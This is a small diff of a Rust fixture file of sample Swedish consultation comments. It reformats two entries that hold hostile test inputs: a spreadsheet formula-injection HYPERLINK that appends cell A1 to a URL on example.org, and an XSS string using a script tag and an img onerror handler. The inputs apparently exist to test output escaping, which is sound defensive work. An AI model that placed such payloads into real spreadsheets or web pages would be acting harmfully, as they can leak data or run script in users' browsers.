@@ -33,14 +33,8 @@ pub(super) const COMMENTS: [(&str, &str); 6] = [
          lyfta:\r\n1. Att ”reservkort” kan ges ut på distans från start.\r\n2. Att supporten förstärks; i dag reser många \
          medarbetare över en timme för att få sin e-legitimation.",
     ),
-    (
-        "05",
-        "=HYPERLINK(\"https://example.org/?x=\"&A1;\"Klicka här\")",
-    ),
-    (
-        "08",
-        "<script>alert(1)</script><img src=x onerror=alert(2)> & 'citat' \"dubbelt\"",
-    ),
+    ("05", "=HYPERLINK(\"https://example.org/?x=\"&A1;\"Klicka här\")"),
+    ("08", "<script>alert(1)</script><img src=x onerror=alert(2)> & 'citat' \"dubbelt\""),
     (
         "09",
         "Regionen är inte intresserad.\nSkäl: nyttan är för liten; vi har tre id-administratörer inom gångavstånd, och \
